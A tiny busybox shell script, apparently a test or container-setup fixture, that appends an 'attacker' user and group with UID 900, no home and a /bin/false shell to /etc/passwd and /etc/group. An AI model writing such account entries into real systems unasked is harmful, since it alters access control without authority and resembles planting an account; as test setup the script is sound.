#!/bin/busybox sh
set -e
echo 'attacker:x:900:900::/nonexistent:/bin/false' >>/etc/passwd
echo 'attacker:x:900:' >>/etc/group
